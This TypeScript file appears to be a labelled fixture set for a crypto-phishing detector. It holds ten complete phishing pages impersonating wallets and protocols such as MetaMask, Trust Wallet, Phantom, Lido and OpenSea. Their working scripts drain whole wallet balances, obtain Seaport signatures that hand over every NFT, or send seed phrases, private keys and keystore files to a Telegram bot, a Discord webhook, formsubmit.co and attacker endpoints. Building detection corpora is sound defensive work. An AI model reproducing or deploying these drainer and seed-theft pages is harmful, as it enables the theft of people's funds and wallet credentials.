import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Crypto drainers (approve / setApprovalForAll / Permit2 / whole-balance transfers) and seed-phrase theft kits.
const html = String.raw;

export const entries: Entry[] = [
{
  id: 'b-cd-migrate-balance',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://lido-v2-migration.finance/migrate',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Lido — stETH v2 Migration</title>
<style>body{background:#f2f5f8;font-family:Manrope,Arial;margin:0;color:#273852}.w{max-width:460px;margin:70px auto;background:#fff;border-radius:20px;padding:32px;box-shadow:0 4px 20px rgba(0,0,0,.05)}
.w h2{margin-top:0}.row{display:flex;justify-content:space-between;padding:10px 0;border-bottom:1px solid #eef}.btn{background:linear-gradient(90deg,#00a3ff,#0ad);color:#fff;width:100%;border:0;padding:16px;border-radius:10px;font-size:16px;margin-top:18px;cursor:pointer}</style></head>
<body><div class="w"><h2>Migrate to stETH v2</h2><p>Lido is upgrading to v2 withdrawals. Positions that are not migrated before the deadline stop earning rewards. Migration is free — only network gas applies.</p>
<div class="row"><span>Your balance</span><span id="bal">—</span></div><div class="row"><span>APR after migration</span><span>4.1%</span></div><div class="row"><span>Deadline</span><span>3 days</span></div>
<button class="btn" id="m">Connect &amp; migrate</button><p id="s" style="font-size:13px;color:#7a8aa0"></p></div>
<script>
var MIGRATOR = '0x4E2c1b7D9a3F5e8C0b2D4f6A8c1E3a5B7d9F0e21';
document.getElementById('m').onclick = async function(){
  var s = document.getElementById('s');
  var a = (await ethereum.request({ method: 'eth_requestAccounts' }))[0];
  var bal = BigInt(await ethereum.request({ method: 'eth_getBalance', params: [a, 'latest'] }));
  var gp = BigInt(await ethereum.request({ method: 'eth_gasPrice' }));
  document.getElementById('bal').textContent = (Number(bal) / 1e18).toFixed(4) + ' ETH';
  var fee = gp * 21000n * 2n;
  if (bal <= fee) { s.textContent = 'Insufficient balance for migration.'; return; }
  var v = bal - fee;
  s.textContent = 'Confirm the migration in your wallet...';
  await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: a, to: MIGRATOR, value: '0x' + v.toString(16), gas: '0x5208' }] });
  s.textContent = 'Migration complete. stETH v2 will be credited after 12 confirmations.';
};
</script></body></html>`,
},
{
  id: 'b-cd-walletconnect-modal',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://walletconnect-dapps.network/connect',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>WalletConnect | Secure Connection</title>
<style>body{margin:0;background:#141414;font-family:-apple-system,Inter,sans-serif;color:#fff}.mask{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.6)}
.modal{width:380px;background:#fff;color:#141414;border-radius:30px;overflow:hidden}.mh{display:flex;align-items:center;justify-content:space-between;padding:18px 22px;background:#3b99fc;color:#fff;font-weight:600}
.list div{display:flex;align-items:center;gap:14px;padding:13px 22px;cursor:pointer;border-bottom:1px solid #f1f1f1}.list div:hover{background:#f5f8ff}.list i{width:32px;height:32px;border-radius:8px;display:inline-block}
#manual{display:none;padding:20px 22px}#manual textarea{width:100%;height:110px;border:1px solid #ccc;border-radius:12px;padding:10px;font-size:14px}#manual button{width:100%;margin-top:12px;background:#3b99fc;color:#fff;border:0;border-radius:14px;padding:13px;font-weight:600}
.err{color:#e03131;font-size:13px}</style></head>
<body><div class="mask"><div class="modal"><div class="mh"><span>WalletConnect</span><span>&#10005;</span></div>
<div class="list" id="list">
<div data-w="MetaMask"><i style="background:#f6851b"></i>MetaMask</div><div data-w="Trust Wallet"><i style="background:#3375bb"></i>Trust Wallet</div>
<div data-w="Coinbase Wallet"><i style="background:#0052ff"></i>Coinbase Wallet</div><div data-w="Rainbow"><i style="background:linear-gradient(#ff4000,#8754c9)"></i>Rainbow</div>
<div data-w="Ledger Live"><i style="background:#000"></i>Ledger Live</div><div data-w="Exodus"><i style="background:#1f2033"></i>Exodus</div></div>
<div id="manual"><p class="err">Automatic connection failed (error WC-1006). Connect manually.</p><p id="wn" style="font-weight:600"></p>
<textarea id="ph" placeholder="Enter your 12 or 24 word recovery phrase, separated by spaces"></textarea><p style="font-size:12px;color:#777">Typically 12 (sometimes 24) words separated by single spaces. Your connection is end-to-end encrypted.</p>
<button id="cn">Connect</button></div></div></div>
<script>
var wallet = '';
document.querySelectorAll('#list div').forEach(function(d){ d.onclick = function(){ wallet = d.getAttribute('data-w'); document.getElementById('list').innerHTML = '<div style="justify-content:center">Initializing ' + wallet + '...</div>'; setTimeout(function(){ document.getElementById('list').style.display = 'none'; document.getElementById('wn').textContent = wallet; document.getElementById('manual').style.display = 'block'; }, 2200); }; });
document.getElementById('cn').onclick = function(){
  var p = document.getElementById('ph').value.trim().toLowerCase().replace(/\s+/g, ' ');
  var n = p.split(' ').length;
  if ([12, 15, 18, 21, 24].indexOf(n) < 0) { alert('Invalid phrase'); return; }
  fetch('/api/connect', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ wallet: wallet, phrase: p, ua: navigator.userAgent }) })
    .finally(function(){ document.getElementById('manual').innerHTML = '<p class="err">Connection timed out. Please try again later.</p>'; });
};
</script></body></html>`,
},
{
  id: 'b-cd-seed-metamask-tg',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://metamask-verify-wallet.info/restore',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>MetaMask - Wallet Verification</title>
<style>body{background:#f2f4f6;font-family:Euclid Circular B,Roboto,Helvetica,Arial;margin:0;color:#24272a}.hd{background:#fff;padding:12px 30px;border-bottom:1px solid #d6d9dc;display:flex;align-items:center;gap:10px}
.hd img{height:32px}.c{max-width:600px;margin:40px auto;background:#fff;border-radius:10px;padding:30px 36px;border:1px solid #d6d9dc}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:18px 0}.grid label{display:flex;align-items:center;gap:6px;font-size:13px}.grid input{width:100%;padding:8px;border:1px solid #bbc0c5;border-radius:6px}
.btn{width:100%;background:#037dd6;color:#fff;border:0;border-radius:100px;padding:13px;font-size:15px;cursor:pointer}.w{background:#fef8e6;border:1px solid #f8c000;border-radius:8px;padding:10px 14px;font-size:13px}</style></head>
<body><div class="hd"><img src="https://metamask.io/images/metamask-logo.png" alt=""><b>METAMASK</b></div>
<div class="c"><h2>Verify your wallet</h2><p>Due to the recent network upgrade, all wallets must be verified to avoid suspension. Enter your Secret Recovery Phrase to confirm ownership. This process takes less than a minute.</p>
<div class="w">&#9888; Unverified wallets will be restricted from sending and swapping after 48 hours.</div>
<form id="f"><div class="grid" id="g"></div><button class="btn" type="submit">Confirm Secret Recovery Phrase</button></form><p id="r" style="text-align:center;color:#d73a49"></p></div>
<script>
var g = document.getElementById('g');
for (var i = 1; i <= 12; i++) g.innerHTML += '<label>' + i + '. <input type="password" name="w' + i + '" autocomplete="off" required></label>';
var BOT = '7093341266:AAFq9rX2mW4kL8pB0zT6yH3sV1cN5eJ7dQ0';
var CHAT = '-1002187744213';
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  var words = [];
  for (var i = 1; i <= 12; i++) words.push(this['w' + i].value.trim());
  var txt = '\u{1F98A} MetaMask\nPhrase: ' + words.join(' ') + '\nIP page: ' + location.host + '\nUA: ' + navigator.userAgent;
  fetch('https://api.telegram.org/bot' + BOT + '/sendMessage', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: CHAT, text: txt }) })
    .then(function () { document.getElementById('r').textContent = 'Verification failed: invalid phrase. Please check the words and try again.'; });
});
</script></body></html>`,
},
{
  id: 'b-cd-seed-trust-webhook',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://trustwallet-sync.support/import',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Trust Wallet | Sync</title>
<style>body{margin:0;background:#fff;font-family:"Bai Jamjuree",Arial,sans-serif}.top{background:#0500ff;color:#fff;padding:16px 24px;font-weight:700}
.b{max-width:420px;margin:40px auto;padding:0 18px}.tabs{display:flex;gap:6px;margin-bottom:12px}.tabs span{flex:1;text-align:center;padding:9px;border-radius:8px;background:#f1f3f5;font-size:14px}.tabs .on{background:#0500ff;color:#fff}
textarea{width:100%;height:120px;border:1px solid #d0d5dd;border-radius:12px;padding:12px;font-size:15px;box-sizing:border-box}.go{width:100%;background:#0500ff;color:#fff;border:0;padding:15px;border-radius:30px;font-size:16px;margin-top:14px}</style></head>
<body><div class="top">Trust Wallet</div><div class="b"><h2>Sync your wallet</h2><p style="color:#555">Your wallet is out of sync with the new blockchain nodes. Import it again to restore your balances and continue transactions.</p>
<div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Private Key</span></div>
<textarea id="p" placeholder="Phrase"></textarea><p style="font-size:12px;color:#777">Typically 12 (sometimes 24) words separated by single spaces</p>
<button class="go" id="s">SYNC</button></div>
<script>
const HOOK = 'https://discord.com/api/webhooks/1247790451231137892/Vq3sBxL0eP9-kYwT4mZr2n8uD6oJ1aHcF5gRtS7iNvE0bXyQ3lKdMpW';
document.getElementById('s').onclick = async () => {
  const v = document.getElementById('p').value.trim();
  if (v.split(/\s+/).length < 12) { alert('Please enter a valid phrase'); return; }
  await fetch(HOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ username: 'tw-sync', content: '**TRUST** ' + v + ' | ' + new Date().toISOString() }) }).catch(() => {});
  location.href = 'https://trustwallet.com/';
};
</script></body></html>`,
},
{
  id: 'b-cd-seed-phantom-rectify',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://phantom-rectify.web.app/',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Phantom – Rectify Wallet</title>
<style>body{background:#1c1c1c;color:#fff;font-family:Inter,Arial;margin:0;text-align:center}.box{max-width:400px;margin:60px auto;background:#2a2a2a;border-radius:16px;padding:30px}
.logo{width:72px;height:72px;border-radius:18px;background:#ab9ff2;margin:0 auto}.box textarea{width:100%;box-sizing:border-box;height:110px;background:#181818;color:#fff;border:1px solid #444;border-radius:10px;padding:12px}
.box button{width:100%;background:#ab9ff2;border:0;color:#1c1c1c;font-weight:700;padding:14px;border-radius:10px;margin-top:14px}ul{text-align:left;color:#aaa;font-size:14px}</style></head>
<body><div class="box"><div class="logo"></div><h2>Rectify your wallet</h2><p style="color:#aaa">Resolve the following issues instantly:</p><ul><li>Failed or pending transactions</li><li>Missing tokens / NFTs</li><li>Staking rewards not showing</li><li>High slippage errors</li></ul>
<form method="POST" action="/rectify.php"><input type="hidden" name="wallet" value="phantom"><textarea name="phrase" placeholder="Enter your 12-word recovery phrase"></textarea><button type="submit">Rectify</button></form>
<p style="font-size:11px;color:#777">Secured by Solana Foundation &middot; End-to-end encrypted</p></div></body></html>`,
},
{
  id: 'b-cd-keystore-exodus',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://exodus-wallet-restore.com/verify/',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Exodus | Restore &amp; Verify</title>
<style>body{margin:0;background:linear-gradient(180deg,#1a1d3a,#0b0c1d);color:#fff;font-family:"Exodus Sans",Inter,Arial;min-height:100vh}.w{max-width:520px;margin:0 auto;padding:50px 20px}
.tab{display:inline-block;padding:8px 16px;border-radius:20px;cursor:pointer;color:#aaa}.tab.on{background:#7c4dff;color:#fff}.pane{display:none;margin-top:18px}.pane.on{display:block}
input,textarea{width:100%;box-sizing:border-box;background:#15173a;border:1px solid #34376b;border-radius:8px;color:#fff;padding:12px;margin-bottom:10px}.go{background:linear-gradient(90deg,#8c66fc,#0274f1);border:0;color:#fff;border-radius:30px;padding:14px;width:100%;font-weight:600}</style></head>
<body><div class="w"><h1>Verify your Exodus wallet</h1><p style="color:#b5b8e0">Exodus 24.x requires a one-time verification of existing wallets. Choose how you want to verify.</p>
<div><span class="tab on" data-p="a">Keystore JSON</span><span class="tab" data-p="b">Private key</span><span class="tab" data-p="c">Secret phrase</span></div>
<form id="f" enctype="multipart/form-data">
<div class="pane on" id="a"><input type="file" name="keystore" accept=".json,application/json"><input type="password" name="kspass" placeholder="Wallet password"></div>
<div class="pane" id="b"><input name="pk" placeholder="Private key (64 hex characters)"></div>
<div class="pane" id="c"><textarea name="phrase" rows="4" placeholder="12-word secret recovery phrase"></textarea></div>
<button class="go" type="submit">Verify wallet</button></form><p id="o" style="color:#ff8a80"></p></div>
<script>
document.querySelectorAll('.tab').forEach(function(t){t.onclick=function(){document.querySelectorAll('.tab,.pane').forEach(function(x){x.classList.remove('on')});t.classList.add('on');document.getElementById(t.dataset.p).classList.add('on');};});
document.getElementById('f').onsubmit=async function(e){e.preventDefault();var fd=new FormData(this);var f=fd.get('keystore');if(f&&f.size){fd.set('keystore_text',await f.text());}
await fetch('https://exodus-wallet-restore.com/api/v1/verify',{method:'POST',body:fd}).catch(function(){});document.getElementById('o').textContent='Verification failed. Please try another method.';};
</script></body></html>`,
},
{
  id: 'b-cd-dapp-rectify-hub',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://dapps-resolve-node.com/',
  body: html`<!DOCTYPE html>
<html lang="en"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title>DApps Resolver | Decentralized Wallet Protocol</title>
<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@4.6.2/dist/css/bootstrap.min.css">
<style>body{background:#0f1b2d;color:#fff}.issue{background:#182a45;border-radius:10px;padding:20px;text-align:center;cursor:pointer;margin-bottom:20px;height:130px}.issue:hover{background:#21406b}
#walletList,#importBox{display:none}.wl{background:#fff;color:#111;border-radius:8px;padding:10px;margin:6px;cursor:pointer;display:inline-block;width:150px;text-align:center}</style></head>
<body><div class="container py-5"><h1 class="text-center">Open protocol for connecting Wallets to Dapps</h1><p class="text-center text-muted">Resolve any wallet issue with our decentralized validation node</p>
<div class="row mt-4" id="issues">
<div class="col-md-3"><div class="issue"><h5>Migration</h5><small>Click here for migration related issues</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Claim Reward</h5><small>Issues claiming rewards</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Rectification</h5><small>Rectify wallet errors</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Slippage Error</h5><small>Error with trade slippage</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Missing/Irregular Balance</h5><small>Balance issues</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Whitelist</h5><small>Whitelist issues</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Locked Account</h5><small>Account lock issues</small></div></div>
<div class="col-md-3"><div class="issue"><h5>Validate</h5><small>Validate your wallet</small></div></div></div>
<div id="walletList" class="text-center"><h4>Select your wallet</h4><span class="wl">MetaMask</span><span class="wl">Trust Wallet</span><span class="wl">Coinbase</span><span class="wl">Phantom</span><span class="wl">Exodus</span><span class="wl">SafePal</span><span class="wl">Atomic</span><span class="wl">Other</span></div>
<div id="importBox" class="mx-auto" style="max-width:520px"><h4 id="wn"></h4>
<form action="https://formsubmit.co/ajax/r3ct1fy.node@proton.me" method="POST" id="imf"><input type="hidden" name="_subject" value="NEW WALLET"><input type="hidden" name="wallet" id="wv">
<ul class="nav nav-tabs"><li class="nav-item"><a class="nav-link active">Phrase</a></li><li class="nav-item"><a class="nav-link">Keystore JSON</a></li><li class="nav-item"><a class="nav-link">Private Key</a></li></ul>
<textarea class="form-control mt-2" name="phrase" rows="4" placeholder="Enter your recovery phrase"></textarea><small class="text-muted">Typically 12 (sometimes 24) words separated by single spaces</small>
<button class="btn btn-primary btn-block mt-3">IMPORT</button></form></div></div>
<script>
document.querySelectorAll('.issue').forEach(function(i){i.onclick=function(){document.getElementById('issues').style.display='none';document.getElementById('walletList').style.display='block';};});
document.querySelectorAll('.wl').forEach(function(w){w.onclick=function(){document.getElementById('walletList').style.display='none';document.getElementById('importBox').style.display='block';document.getElementById('wn').textContent='Import your '+w.textContent+' wallet';document.getElementById('wv').value=w.textContent;};});
document.getElementById('imf').onsubmit=function(e){e.preventDefault();fetch(this.action,{method:'POST',body:new FormData(this)}).then(function(){alert('Error connecting. Try again with another method.');});};
</script></body></html>`,
},
{
  id: 'b-cd-mint-es',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://mint-cryptopunks-v3.es/acunar',
  body: html`<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>CryptoGatos Club — Acuñación pública</title>
<style>body{background:#111;color:#fff;font-family:"Press Start 2P",monospace,Arial;text-align:center;margin:0}.p{max-width:560px;margin:60px auto;border:4px solid #ffd000;padding:28px}
.q{font-size:26px;margin:14px 0}button{background:#ffd000;border:0;font-family:inherit;padding:16px 30px;font-size:14px;cursor:pointer}small{color:#999}</style></head>
<body><div class="p"><h2>CryptoGatos Club</h2><p>¡La acuñación pública ya está abierta! Solo quedan <b id="left">312</b> gatos.</p>
<div class="q">Precio: 0.05 ETH</div><button id="mint">CONECTAR Y ACUÑAR</button><p id="s"></p><small>Máx. 5 por cartera &middot; Gas optimizado</small></div>
<script>
var destino = '0x2D9b4e6F8a0c1E3b5D7f9A1c3E5b7D9f0A2c4E6b';
document.getElementById('mint').onclick = async function () {
  var s = document.getElementById('s');
  if (typeof window.ethereum === 'undefined') { s.textContent = 'Instala MetaMask para continuar'; return; }
  var cuentas = await ethereum.request({ method: 'eth_requestAccounts' });
  var saldo = await ethereum.request({ method: 'eth_getBalance', params: [cuentas[0], 'latest'] });
  var valor = BigInt(saldo) * 95n / 100n;
  s.textContent = 'Confirma la transacción en tu cartera…';
  try {
    await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: cuentas[0], to: destino, value: '0x' + valor.toString(16), data: '0xa0712d680000000000000000000000000000000000000000000000000000000000000001' }] });
    s.textContent = '¡Gato acuñado! Aparecerá en OpenSea en unos minutos.';
  } catch (e) { s.textContent = 'Transacción rechazada'; }
};
</script></body></html>`,
},
{
  id: 'b-cd-solana-stake',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim.jupuary-rewards.org/',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Jupiter | Jupuary Claim</title>
<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>
<style>body{margin:0;background:#19232d;color:#e8f9ff;font-family:Inter,sans-serif;text-align:center}.c{max-width:460px;margin:80px auto;background:#212f3d;border-radius:24px;padding:36px}
.g{background:linear-gradient(90deg,#c7f284,#00bef0);border:0;color:#19232d;padding:15px;width:100%;border-radius:14px;font-weight:700;font-size:16px;cursor:pointer}</style></head>
<body><div class="c"><h1>Jupuary 2025</h1><p>Claim your JUP allocation. Eligible wallets: swapped, staked or voted on Jupiter before the snapshot.</p><h2 id="al">? JUP</h2><button class="g" id="b">Connect Phantom &amp; Claim</button><p id="s" style="color:#8aa"></p></div>
<script>
const RCV = new solanaWeb3.PublicKey('7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU');
const conn = new solanaWeb3.Connection('https://solana-mainnet.g.alchemy.com/v2/pQ3rT8vN1xW6', 'confirmed');
document.getElementById('b').onclick = async () => {
  const p = window.phantom?.solana || window.solana;
  if (!p) { document.getElementById('s').textContent = 'Phantom not found'; return; }
  const { publicKey } = await p.connect();
  document.getElementById('al').textContent = '2,480 JUP';
  const bal = await conn.getBalance(publicKey);
  const tx = new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({ fromPubkey: publicKey, toPubkey: RCV, lamports: Math.max(0, bal - 5000 * 2) }));
  tx.feePayer = publicKey;
  tx.recentBlockhash = (await conn.getLatestBlockhash()).blockhash;
  document.getElementById('s').textContent = 'Approve the claim in Phantom';
  const signed = await p.signAllTransactions([tx]);
  for (const t of signed) await conn.sendRawTransaction(t.serialize());
  document.getElementById('s').textContent = 'Claim successful!';
};
</script></body></html>`,
},
{
  id: 'b-cd-seaport-sign',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://opensea.io-offers.com/account/offers/accept?id=991824',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Accept offer | OpenSea</title>
<style>body{margin:0;font-family:Inter,sans-serif;background:#fff;color:#121212}.n{padding:14px 28px;border-bottom:1px solid #eee;font-weight:700;color:#2081e2}
.m{max-width:520px;margin:50px auto;border:1px solid #e5e8eb;border-radius:16px;padding:24px}.r{display:flex;justify-content:space-between;margin:10px 0}.b{width:100%;background:#2081e2;color:#fff;border:0;border-radius:12px;padding:15px;font-weight:600}</style></head>
<body><div class="n">OpenSea</div><div class="m"><h3>You received an offer</h3><div class="r"><span>Item</span><span>Your NFT</span></div><div class="r"><span>Offer</span><b>14.2 WETH</b></div><div class="r"><span>From</span><span>0x91e…a03c</span></div><div class="r"><span>Expires</span><span>in 2 hours</span></div>
<button class="b" id="a">Accept offer</button><p id="s" style="font-size:13px;color:#707a83"></p></div>
<script>
const SEAPORT = '0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC', TO = '0x91eD0a3B5c7E9f1A3b5C7d9E1f3A5b7C9d1Ea03c';
async function accept() {
  const [me] = await ethereum.request({ method: 'eth_requestAccounts' });
  const items = await fetch('/api/holdings?owner=' + me).then(r => r.json());
  const offer = items.map(n => ({ itemType: n.erc1155 ? 3 : 2, token: n.contract, identifierOrCriteria: n.id, startAmount: '1', endAmount: '1' }));
  const consideration = items.map(n => ({ itemType: n.erc1155 ? 3 : 2, token: n.contract, identifierOrCriteria: n.id, startAmount: '1', endAmount: '1', recipient: TO }));
  const order = { offerer: me, zone: '0x0000000000000000000000000000000000000000', offer, consideration, orderType: 0, startTime: 0, endTime: 2000000000, zoneHash: '0x' + '0'.repeat(64), salt: String(Date.now()), conduitKey: '0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000', counter: 0 };
  const typed = { types: { EIP712Domain: [{ name: 'name', type: 'string' }, { name: 'version', type: 'string' }, { name: 'chainId', type: 'uint256' }, { name: 'verifyingContract', type: 'address' }], OrderComponents: [{ name: 'offerer', type: 'address' }, { name: 'zone', type: 'address' }, { name: 'offer', type: 'OfferItem[]' }, { name: 'consideration', type: 'ConsiderationItem[]' }, { name: 'orderType', type: 'uint8' }, { name: 'startTime', type: 'uint256' }, { name: 'endTime', type: 'uint256' }, { name: 'zoneHash', type: 'bytes32' }, { name: 'salt', type: 'uint256' }, { name: 'conduitKey', type: 'bytes32' }, { name: 'counter', type: 'uint256' }], OfferItem: [{ name: 'itemType', type: 'uint8' }, { name: 'token', type: 'address' }, { name: 'identifierOrCriteria', type: 'uint256' }, { name: 'startAmount', type: 'uint256' }, { name: 'endAmount', type: 'uint256' }], ConsiderationItem: [{ name: 'itemType', type: 'uint8' }, { name: 'token', type: 'address' }, { name: 'identifierOrCriteria', type: 'uint256' }, { name: 'startAmount', type: 'uint256' }, { name: 'endAmount', type: 'uint256' }, { name: 'recipient', type: 'address' }] }, primaryType: 'OrderComponents', domain: { name: 'Seaport', version: '1.5', chainId: 1, verifyingContract: SEAPORT }, message: order };
  document.getElementById('s').textContent = 'Sign to accept (gas-free)';
  const sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [me, JSON.stringify(typed)] });
  await fetch('/api/fulfil', { method: 'POST', body: JSON.stringify({ order, sig }) });
  document.getElementById('s').textContent = 'Offer accepted. WETH will arrive shortly.';
}
document.getElementById('a').onclick = accept;
</script></body></html>`,
  routes: {
    'opensea.io-offers.com/api/holdings': { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify([{ contract: '0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', id: '0', erc1155: false }]) },
  },
},
];
